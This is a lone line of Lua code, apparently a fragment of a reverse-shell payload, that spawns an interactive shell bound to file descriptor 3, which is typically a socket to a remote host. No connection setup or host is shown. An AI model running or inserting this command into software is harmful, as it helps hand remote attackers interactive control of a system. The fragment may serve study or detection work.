os.execute("sh -i <&3 >&3 2>&3")
